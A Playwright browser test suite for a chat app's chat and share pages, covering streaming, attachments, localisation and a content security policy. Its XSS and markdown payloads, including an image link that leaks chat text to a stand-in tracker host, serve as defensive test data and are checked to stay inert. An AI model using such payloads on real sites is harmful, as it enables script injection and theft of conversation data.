"""The chat page and share page in a real browser (Debian's Chromium via Playwright)."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

from chat.tests.live import LiveServer
from tools.tests.fixtures import LoopbackServer, text_pdf

from .conftest import wait_until

SPEECH = Path(__file__).resolve().parents[3] / "tools" / "tests" / "data" / "speech.wav"
LONG = "Write a long essay about the history of the sea."  # with seed 1: thousands of tokens
ANSWER_LENGTH = "() => document.querySelector('article.assistant .bubble')?.textContent.length || 0"
XSS_MARKDOWN = (
    'Hello <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> '
    '[click me](javascript:window.__xss=3) <svg onload="window.__xss=4"></svg>\n\n'
    "Euler: \\(e^{i\\pi}+1=0\\) and $$\\int_0^1 x\\,dx=\\tfrac12$$\n\n"
    "```python\nprint('hi')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
)


def post_json(page: Any, path: str, body: Any) -> Any:
    """A same-origin JSON POST from the page, as its own scripts send it (cookie + CSRF)."""
    return page.evaluate(
        """async ([path, body]) => {
            const csrf = document.cookie.match(/csrftoken=([^;]+)/)[1];
            const r = await fetch(path, {method: "POST", headers: {"Content-Type": "application/json",
                "X-CSRFToken": csrf}, body: JSON.stringify(body)});
            return {status: r.status, body: await r.json()};
        }""",
        [path, body],
    )


def long_answer_settings(page: Any) -> None:
    page.click("#settings-toggle")
    page.fill("#opt-seed", "1")
    page.fill("#opt-max_tokens", "3000")


def short_answer_settings(page: Any) -> None:
    """Answers whose content does not matter: short, so they never hold the model up."""
    page.click("#settings-toggle")
    page.fill("#opt-max_tokens", "32")


def test_send_stream_stop_and_reload(tabs: Any, site: LiveServer) -> None:
    tab = tabs()
    page = tab.open("/")
    tab.shot("01-empty")
    long_answer_settings(page)
    page.evaluate(
        """() => { window.__lengths = [];
        new MutationObserver(() => { const b = document.querySelector('article.assistant .bubble');
          if (b) window.__lengths.push(b.textContent.length); })
        .observe(document.getElementById('messages'), {subtree: true, childList: true, characterData: true}); }"""
    )
    page.fill("#input", LONG)
    page.keyboard.press("Enter")
    wait_until(page, f"({ANSWER_LENGTH})() > 150", timeout=60_000)
    lengths = page.evaluate("window.__lengths")
    growing = sorted(set(lengths))
    assert len(growing) >= 3, f"the answer should arrive in pieces, saw lengths {lengths[:20]}"
    assert page.is_visible("#stop") and not page.is_visible("#send")
    assert page.get_attribute("#messages", "role") == "log"
    tab.shot("02-streaming")

    page.reload()  # mid-stream: the answer keeps going on the server and the page re-attaches
    page.wait_for_selector("body[data-ready=true]")
    page.wait_for_selector("article.assistant.streaming", timeout=10_000)
    before = page.evaluate(ANSWER_LENGTH)
    wait_until(page, f"({ANSWER_LENGTH})() > {before + 60}", timeout=30_000)

    page.keyboard.press("Escape")  # Esc stops
    page.wait_for_selector("article.assistant:not(.streaming) .status", timeout=15_000)
    shown = page.inner_text("article.assistant .bubble")
    assert page.inner_text("article.assistant .status") == "Stopped"
    conversation_id = page.evaluate("new URLSearchParams(location.search).get('c')")
    saved = page.evaluate(f"fetch('/api/conversations/{conversation_id}').then(r => r.json())")
    answer = next(m for m in saved["messages"] if m["role"] == "assistant")
    assert answer["status"] == "stopped"
    tab.shot("03-stopped")

    page.reload()
    page.wait_for_selector("article.assistant")
    assert page.inner_text("article.user .bubble") == LONG
    assert page.inner_text("article.assistant .bubble") == shown  # the kept text is the shown text
    assert page.inner_text("#conversations").strip().startswith("Write a long essay")
    site.wait_idle(within=10)


def test_share_link_opens_elsewhere_and_content_stays_inert(tabs: Any) -> None:
    author = tabs()
    page = author.open("/")
    short_answer_settings(page)
    page.fill("#input", "Say hi.")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.assistant:not(.streaming)", timeout=60_000)
    page.click("#share")
    page.wait_for_selector("#share-dialog[open]")
    url = page.input_value("#share-url")
    assert "/share/" in url
    author.shot("04-share-dialog")

    visitor = tabs()  # a fresh context: no cookies
    shared = visitor.open(url)
    assert shared.inner_text("article.user .bubble").strip() == "Say hi."
    assert shared.locator("meta[property='og:title']").get_attribute("content") == "Say hi."

    # A share whose messages try to run script.
    made = post_json(
        page,
        "/api/share",
        [
            {
                "conv": {"id": 1, "name": "XSS test"},
                "messages": [
                    {"role": "user", "content": XSS_MARKDOWN, "timestamp": 1},
                    {"role": "assistant", "content": XSS_MARKDOWN, "timestamp": 2},
                ],
            }
        ],
    )
    assert made["status"] == 201
    hostile = visitor.open(made["body"]["url"])
    hostile.wait_for_timeout(300)
    assert hostile.evaluate("window.__xss") is None
    assert hostile.locator("#shared img[onerror], #shared script, #shared svg[onload]").count() == 0
    assert hostile.locator("#shared a[href^='javascript']").count() == 0
    assert hostile.locator("#shared .katex").count() >= 2  # \(…\) and $$…$$ typeset
    assert hostile.locator("#shared pre code.hljs").count() == 1 and hostile.locator("#shared pre .copy").count() == 1
    assert hostile.locator("#shared table td").count() == 2
    visitor.shot("05-share-page")

    hostile.click("#continue")  # copies the snapshot into the visitor's own new session
    hostile.wait_for_url("**/?c=*")
    hostile.wait_for_selector("body[data-ready=true]")
    hostile.wait_for_selector("article.assistant .katex")
    assert hostile.evaluate("window.__xss") is None
    assert hostile.locator("#messages img[onerror], #messages script").count() == 0
    assert "<script>" in hostile.inner_text("article.user .bubble")  # shown as text, not run
    visitor.shot("06-continued")

    deleted = page.evaluate(
        """async (id) => { const csrf = document.cookie.match(/csrftoken=([^;]+)/)[1];
            return (await fetch('/api/share/' + id, {method: 'DELETE', headers: {'X-CSRFToken': csrf}})).status; }""",
        made["body"]["id"],
    )
    assert deleted == 204
    assert visitor.page.goto(made["body"]["url"]).status == 404


def test_pdf_attachment_progress_preview_and_what_went_in(tabs: Any) -> None:
    """A PDF in the composer is indexed on the server with progress, previews page by page,
    and the answer's line opens exactly what the model was given from it."""
    tab = tabs()
    page = tab.open("/")
    page.evaluate(
        """() => { window.__progress = false;
        new MutationObserver(() => { if (document.querySelector('#chips progress')) window.__progress = true; })
        .observe(document.getElementById('chips'), {subtree: true, childList: true}); }"""
    )
    pdf = text_pdf(["Ghost ships are real", "The Flying Dutchman", "Fata Morgana"], title="Ghosts")
    page.set_input_files("#file", files=[{"name": "ghosts.pdf", "mimeType": "application/pdf", "buffer": pdf}])
    page.wait_for_selector("#chips .chip:not(.failed)")
    wait_until(page, "() => !document.querySelector('#chips progress')", timeout=30_000)
    assert page.evaluate("window.__progress") is True
    page.click("#chips .chip .name")
    page.wait_for_selector("dialog.gg-viewer[open][data-rendered] canvas", timeout=20_000)
    assert page.locator("dialog.gg-viewer canvas").count() == 3
    tab.shot("07-pdf-preview")
    page.click("dialog.gg-viewer header button")
    short_answer_settings(page)
    page.fill("#input", "What is in the file?")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.assistant:not(.streaming)", timeout=60_000)
    assert page.inner_text("article.assistant .retrieval") == "Whole document"
    page.click("article.assistant .retrieval")
    page.wait_for_selector("dialog.gg-viewer[open] pre")
    seen = page.inner_text("dialog.gg-viewer pre")
    assert "[2] ghosts.pdf, page 2:\nThe Flying Dutchman" in seen and "Fata Morgana" in seen


def test_audio_upload_puts_the_transcript_in_the_composer(tabs: Any) -> None:
    tab = tabs()
    page = tab.open("/")
    page.fill("#input", "Notes:")
    page.set_input_files("#file", files=[str(SPEECH)])
    wait_until(page, "() => document.getElementById('input').value.length > 30", timeout=60_000)
    text = page.input_value("#input").lower()
    assert text.startswith("notes:") and "ghost" in text
    assert not page.is_visible("article.user")  # nothing sent: the person edits it first
    tab.shot("08-transcript")


def test_drafts_survive_reload_and_scrolling_up_is_never_yanked(tabs: Any) -> None:
    tab = tabs()
    page = tab.open("/")
    page.fill("#input", "half-written thought")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert page.input_value("#input") == "half-written thought"

    page.set_viewport_size({"width": 800, "height": 500})
    long_answer_settings(page)
    page.fill("#input", LONG)
    page.keyboard.press("Enter")
    wait_until(
        page,
        "() => { const m = document.getElementById('messages'); return m.scrollHeight > m.clientHeight + 200; }",
        timeout=120_000,
    )
    page.evaluate("document.getElementById('messages').scrollTop = 0")
    page.wait_for_selector("#jump:not([hidden])")
    page.wait_for_timeout(800)
    assert page.evaluate("document.getElementById('messages').scrollTop") == 0
    page.click("#jump")
    gap = "(() => { const m = document.getElementById('messages');"
    gap += " return m.scrollHeight - m.scrollTop - m.clientHeight; })()"
    assert page.evaluate(gap) < 80
    page.click("#stop")
    page.wait_for_selector("article.assistant:not(.streaming)", timeout=15_000)


def test_image_attachment_preview_and_answer(tabs: Any) -> None:
    tab = tabs()
    page = tab.open("/")
    short_answer_settings(page)
    png = picture_with_text("Ghost ships")
    page.set_input_files("#file", files=[{"name": "ships.png", "mimeType": "image/png", "buffer": png}])
    page.click("#chips .chip .name")
    page.wait_for_selector("dialog.gg-viewer[open][data-rendered] img")
    tab.shot("12-image-preview")
    page.click("dialog.gg-viewer header button")
    page.fill("#input", "What is in the picture?")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.assistant:not(.streaming)", timeout=60_000)
    alerts = page.locator("[role=alert]")
    assert alerts.count() == 0, alerts.all_inner_texts()  # the text-only model got the image as text
    assert page.locator("article.user .attachments .chip").count() == 1


def picture_with_text(text: str) -> bytes:
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", (480, 120), "white")
    ImageDraw.Draw(image).text((20, 40), text, fill="black", font=ImageFont.load_default(size=36))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def test_russian_interface_dark_mode_and_phone(tabs: Any) -> None:
    tab = tabs(locale="ru-RU")
    page = tab.open("/")
    assert page.evaluate("document.documentElement.lang") == "ru"
    assert page.get_attribute("#input", "placeholder") == "Сообщение для GhostGPT…"
    assert page.inner_text("#send") == "Отправить"
    assert page.evaluate("ngettext('%s page', '%s pages', 3)") == "%s страницы"
    assert page.evaluate("ngettext('%s page', '%s pages', 5)") == "%s страниц"
    assert page.evaluate("ngettext('%s page', '%s pages', 21)") == "%s страница"
    tab.shot("09-russian")
    made = post_json(
        page,
        "/api/share",
        [
            {
                "conv": {"id": 1, "name": "Привет"},
                "messages": [
                    {"role": "user", "content": "Привет", "timestamp": 1},
                    {"role": "assistant", "content": "Здравствуйте!", "timestamp": 2},
                ],
            }
        ],
    )
    shared = tab.open(made["body"]["url"])
    assert "2 сообщения" in shared.inner_text(".meta")
    assert shared.inner_text("#continue") == "Продолжить этот чат"

    page = tab.open("/")
    page.click("#theme-toggle")
    theme = page.evaluate("document.documentElement.dataset.theme")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert page.evaluate("document.documentElement.dataset.theme") == theme  # remembered
    tab.shot("10-theme")
    page.set_viewport_size({"width": 390, "height": 780})
    page.wait_for_timeout(400)
    assert page.is_visible("#menu-toggle") and not page.is_visible("#new-chat")
    page.click("#menu-toggle")
    page.wait_for_timeout(300)
    assert page.is_visible("#new-chat")
    tab.shot("11-phone-menu")


def test_docs_page_in_both_languages(tabs: Any, site: LiveServer) -> None:
    english = tabs().open("/docs")
    assert english.inner_text("#base-url") == f"{site.base_url}/v1"
    russian = tabs(locale="ru-RU").open("/docs")
    assert "Базовый URL" in russian.inner_text("h2#base")
    manifest = json.loads(russian.evaluate("fetch('/api.json').then(r => r.text())"))
    assert manifest["base_url"] == f"{site.base_url}/v1"


def test_recording_in_the_browser_is_transcribed(playwright: Any, site: LiveServer) -> None:
    """Chromium's fake microphone plays the checked-in speech recording."""
    from .conftest import CHROMIUM, FLAGS

    flags = [
        *FLAGS,
        "--use-fake-ui-for-media-stream",
        "--use-fake-device-for-media-stream",
        f"--use-file-for-fake-audio-capture={SPEECH}",
    ]
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=flags)
    try:
        context = browser.new_context(base_url=site.base_url)
        context.grant_permissions(["microphone"])
        page = context.new_page()
        page.goto("/")
        page.wait_for_selector("body[data-ready=true]")
        page.click("#record")
        page.wait_for_selector("#record.recording")
        page.wait_for_timeout(7000)  # the clip is 6.4 s
        page.click("#record")
        wait_until(page, "() => document.getElementById('input').value.length > 20", timeout=60_000)
        assert "ghost" in page.input_value("#input").lower()
    finally:
        browser.close()


HOSTILE_MARKDOWN = (
    "![leak]({tracker}/pixel.png?chat=the-secret-plans) "
    '<img src="{tracker}/raw.png"> '  # raw HTML: escaped by markdown-it, never an element
    "[odd](JaVaScRiPt:window.__xss=6) [vb](vbscript:msgbox(1)) "
    "[page](data:text/html,<script>window.__xss=7</script>)\n\n"
    "KaTeX: $\\href{{javascript:window.__xss=5}}{{x}}$ and $\\htmlClass{{x}}{{y}}$\n\n"
    "![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=8'/>)\n\n"
    "<svg><script>window.__xss=9</script></svg>\n\n"
    "```html\n<img src=x onerror=window.__xss=10><script>window.__xss=11</script>\n```\n"
)


def test_pages_send_a_csp_and_answers_cannot_reach_third_party_origins(tabs: Any, site: LiveServer) -> None:
    tracker = LoopbackServer({})  # another origin: a prompt-injected page's collector
    try:
        author = tabs()
        page = author.open("/")
        body = [
            {
                "conv": {"id": 1, "name": "exfil"},
                "messages": [{"role": "assistant", "content": HOSTILE_MARKDOWN.format(tracker=tracker.url)}],
            }
        ]
        made = post_json(page, "/api/share", body)
        assert made["status"] == 201
        visitor = tabs()
        response = visitor.page.goto(made["body"]["url"])
        visitor.page.wait_for_selector("body[data-ready=true]")
        csp = response.headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in csp and "script-src 'self' 'nonce-" in csp
        shared = visitor.page
        shared.wait_for_timeout(500)
        assert tracker.hits == [], "the page fetched a third-party image"
        assert shared.evaluate("window.__xss") is None
        assert shared.locator("#shared img.blocked-image").count() == 1
        assert shared.locator("#shared img:not([src])").count() >= 1
        assert shared.locator("#shared a[href^='javascript' i], #shared a[href^='vbscript' i]").count() == 0
        assert shared.locator("#shared a[href^='data:' i], #shared script, #shared [onload]").count() == 0
        assert "<img src=x onerror" in shared.inner_text("#shared pre code")  # shown as code, inert
        # The policy itself: a script injected without the nonce does not run.
        shared.evaluate(
            "() => { const s = document.createElement('script'); s.textContent = 'window.__csp = 1';"
            " document.body.append(s); }"
        )
        assert shared.evaluate("window.__csp") is None
        visitor.errors[:] = [e for e in visitor.errors if "Content Security Policy" not in e]
        for path in ("/", "/docs", "/share/no-such-share"):  # the chat, the docs, the HTML 404
            assert "script-src" in visitor.page.request.get(site.base_url + path).headers["content-security-policy"]
    finally:
        tracker.close()


def test_the_model_picker_offers_only_models_that_chat(tabs: Any) -> None:
    # The embedding model answers every chat message with a 400: it is not offered.
    page = tabs().open("/")
    loaded = "[...document.querySelectorAll('#model option')].some(o => o.textContent !== o.value)"
    wait_until(page, f"document.querySelectorAll('#model option').length > 1 || {loaded}", 15_000)
    options = page.eval_on_selector_all("#model option", "os => os.map(o => [o.value, o.textContent])")
    assert [value for value, _ in options] == ["ghostgpt"], options
    assert "local" in options[0][1]
